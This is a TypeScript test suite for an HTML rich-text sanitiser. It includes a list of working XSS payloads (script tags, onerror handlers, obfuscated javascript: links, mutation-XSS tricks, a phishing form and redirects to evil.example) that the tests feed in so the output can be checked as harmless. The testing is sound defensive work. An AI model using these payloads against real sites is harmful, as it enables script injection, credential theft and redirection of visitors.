import fc from 'fast-check'
import { expect, test } from 'vitest'
import { plainText } from '../../shared/rich-text.ts'
import { requiredRichText, sanitiseRichText } from './rich-text.ts'

const picture = `/media/${'a'.repeat(32)}-960.webp`

test('what an editor makes of a text stays as it is', () => {
  const html =
    '<h2>A <em>new</em> roof</h2><p>It holds. <strong>Two</strong> rains, <u>no</u> <s>bucket</s>.</p>' +
    '<ul><li>tiles</li><li>beams</li></ul><blockquote><p>It holds.</p></blockquote>' +
    '<table><thead><tr><th scope="col">Item</th></tr></thead><tbody><tr><td>Tiles</td></tr></tbody></table>'
  expect(sanitiseRichText(html)).toBe(html)
})

test('what our editor writes is stored as it is, but for how links open and pictures load', () => {
  const html =
    `<figure><img src="${picture}" alt="A roof" width="960" height="640"><figcaption>May</figcaption></figure>` +
    '<ul><li><p><strong><u>Roof</u></strong></p></li></ul><hr><p>a<br>b</p>' +
    '<figure><a href="https://youtu.be/aqz-KE-bpKQ">Harvest</a></figure>' +
    '<table><tbody><tr><th scope="col">Item</th></tr></tbody></table>'
  const stored = sanitiseRichText(html)
  expect(
    stored
      .replaceAll(' target="_blank" rel="noopener noreferrer"', '')
      .replaceAll(' loading="lazy"', '')
      .replaceAll(' />', '>'),
  ).toBe(html)
})

test('older names of the same thing become the ones that pages know', () => {
  expect(sanitiseRichText('<h1>A</h1><p><b>b</b><i>i</i><strike>s</strike></p>')).toBe(
    '<h2>A</h2><p><strong>b</strong><em>i</em><s>s</s></p>',
  )
})

test('links within the site stay, full addresses open a new tab that learns nothing', () => {
  expect(sanitiseRichText('<a href="/fundraisers">f</a>')).toBe('<a href="/fundraisers">f</a>')
  expect(sanitiseRichText('<a href="https://ngo.example/a" target="_top">n</a>')).toBe(
    '<a href="https://ngo.example/a" target="_blank" rel="noopener noreferrer">n</a>',
  )
  expect(sanitiseRichText('<a href="mailto:a@b.example">m</a>')).toBe('<a href="mailto:a@b.example">m</a>')
})

test('pictures are ours or are left out', () => {
  expect(sanitiseRichText(`<img src="${picture}" alt="A roof" onerror="alert(1)">`)).toBe(
    `<img src="${picture}" alt="A roof" loading="lazy" />`,
  )
  for (const src of [
    'https://spy.example/1.gif',
    '//spy.example/1.gif',
    'data:image/png;base64,AAAA',
    '/media/../x',
  ])
    expect(sanitiseRichText(`<p>a<img src="${src}">b</p>`)).toBe('<p>ab</p>')
})

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="/\t/evil.example">x</a>',
  '<p onclick="alert(1)" style="position:fixed;inset:0" class="x" id="main">x</p>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>body{display:none}</style>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><script>alert(1)</script></textarea>',
  '<xmp><script>alert(1)</script></xmp>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
]

const tag = /<(\/?)([a-zA-Z][^\s/>]*)([^>]*)>/g
const allowedTags =
  /^(p|h2|h3|ul|ol|li|blockquote|br|hr|figure|figcaption|img|strong|em|u|s|a|table|caption|thead|tbody|tr|th|td)$/
const attribute = /([^\s=/]+)(?:="([^"]*)")?/g

/** Tells whether a browser would leave our site by this link. */
function leadsAstray(href: string): boolean {
  const address = href
    .replaceAll('&quot;', '"')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&amp;', '&')
  if (!URL.canParse(address, 'https://ours.example/story')) return false
  const { protocol, host } = new URL(address, 'https://ours.example/story')
  return !(
    /^(https?|mailto|tel):$/.test(protocol) &&
    (host === 'ours.example' || /^(https?|mailto|tel):/i.test(address))
  )
}

/** Reads the result as a browser would: what is there beside our tags, our attributes and safe addresses. */
function harmIn(html: string): string[] {
  const harm = /<[a-zA-Z!/]/.test(html.replaceAll(tag, '')) ? ['a tag that does not end'] : []
  for (const [, , name, rest] of html.matchAll(tag)) {
    if (!allowedTags.test(name!)) harm.push(name!)
    for (const [, attr, value = ''] of rest!.matchAll(attribute)) {
      const isKnown = /^(href|target|rel|src|alt|width|height|loading|scope)$/.test(attr!)
      const isSafe =
        attr === 'href'
          ? !leadsAstray(value)
          : attr !== 'src' || /^\/media\/[0-9a-f]{20,32}-\d+\.webp$/.test(value)
      if (!isKnown || !isSafe) harm.push(`${attr}=${value}`)
    }
  }
  return harm
}

test.each(attacks)('nothing acts that came as %s', (html) => {
  const safe = sanitiseRichText(html)
  expect(harmIn(safe)).toEqual([])
  expect(sanitiseRichText(safe)).toBe(safe)
})

test('the reader of these tests finds what acts', () => {
  for (const html of [
    '<script>',
    '<p onclick="x">',
    '<a href="javascript:x">',
    '<a href="/\\evil.example">',
    '<a href="//evil.example">',
    '<img src="/x">',
    '<p',
  ])
    expect(harmIn(html), html).toHaveLength(1)
})

test('attacks put together from pieces come out harmless too, and twice is as once', () => {
  const piece = fc.oneof(
    fc.constantFrom(
      ...attacks,
      '<p>',
      '</p>',
      '<a href="',
      '">',
      '<table><td>',
      '<!--',
      '-->',
      '<',
      '>',
      '"',
      "'",
      '&',
    ),
    fc.string({ maxLength: 6 }),
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
      const safe = sanitiseRichText(pieces.join(''))
      expect(harmIn(safe)).toEqual([])
      expect(sanitiseRichText(safe)).toBe(safe)
    }),
    { numRuns: 500 },
  )
})

test('a text of nothing readable is refused by the name of its field', () => {
  for (const html of ['', '  ', '<p></p>', '<script>alert(1)</script>', '<p><br></p>'])
    expect(() => requiredRichText('storyContent', html, 'Enter the content')).toThrow(
      expect.objectContaining({ code: 'INVALID', fields: { storyContent: 'Enter the content' } }),
    )
  expect(requiredRichText('storyContent', `<img src="${picture}">`, 'x')).toContain(picture)
})

test('what a text says can be read without its tags', () => {
  expect(plainText('<h2>Salt &amp; light</h2><p>1 &lt; 2</p>')).toBe('Salt & light 1 < 2')
})

test('a very deep or very long text comes to an end', () => {
  for (const piece of ['<blockquote>', '<p>', '<a href="', '<!--', '&lt;'])
    expect(harmIn(sanitiseRichText(piece.repeat(20_000)))).toEqual([])
})
